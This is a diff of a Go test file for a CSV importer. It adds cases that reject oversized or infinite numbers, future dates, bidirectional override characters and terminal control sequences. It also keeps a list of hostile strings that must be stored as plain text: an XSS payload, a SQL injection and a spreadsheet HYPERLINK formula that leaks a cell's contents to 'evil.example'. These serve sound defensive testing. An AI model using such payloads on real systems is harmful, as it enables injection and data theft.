@@ -60,6 +60,16 @@ func TestImportRejectsBadRows(t *testing.T) {
 			2, "points", "negative"},
 		{"points not a number", toCSV(t, [][]string{header, set(ok, "points", "NaN")}),
 			2, "points", "not a number"},
+		{"points too large to add up", toCSV(t, [][]string{header, set(ok, "points", "1e308"), set(ok, "points", "1e308")}),
+			2, "points", "more than 1e+06, the most one event may weigh"},
+		{"points infinite", toCSV(t, [][]string{header, set(ok, "points", "+Inf")}),
+			2, "points", "not a number"},
+		{"date in the future", toCSV(t, [][]string{header, ok, set(ok, "date", "2026-11-27")}),
+			3, "date", "2026-11-27 is in the future (today is 2026-11-26)"},
+		{"right-to-left override in a name", toCSV(t, [][]string{header, set(ok, "endorser", "Swansea \u202eLC tsaE")}),
+			2, "endorser", "right-to-left or left-to-right override (U+202E)"},
+		{"control characters in a quote", toCSV(t, [][]string{header, set(ok, "quote", "a\x01b\x1b[31m")}),
+			2, "quote", "control character (U+0001)"},
 		{"contest not a slug", toCSV(t, [][]string{header, set(ok, "contest", "Labour 2016!")}),
 			2, "contest", `"labour-2016"`},
 		{"control character in a name", toCSV(t, [][]string{header, set(ok, "endorser", "Evil\x1b[2J CLP")}),
@@ -239,7 +249,7 @@ func TestImportStoresHostileStringsAsText(t *testing.T) {
 		`</script><img src=x onerror=alert(1)>`,
 		`=HYPERLINK("https://evil.example/?"&A1,"click")`,
 		`Robert'); DROP TABLE events;--`,
-		"+SUM(1,2) \u202eRTL override",
+		"+SUM(1,2) \u05d3\u05d5\u05d3 \u200f", // Hebrew with a right-to-left mark (an override is refused)
 	}
 	rows := [][]string{header}
 	for i, h := range hostile {
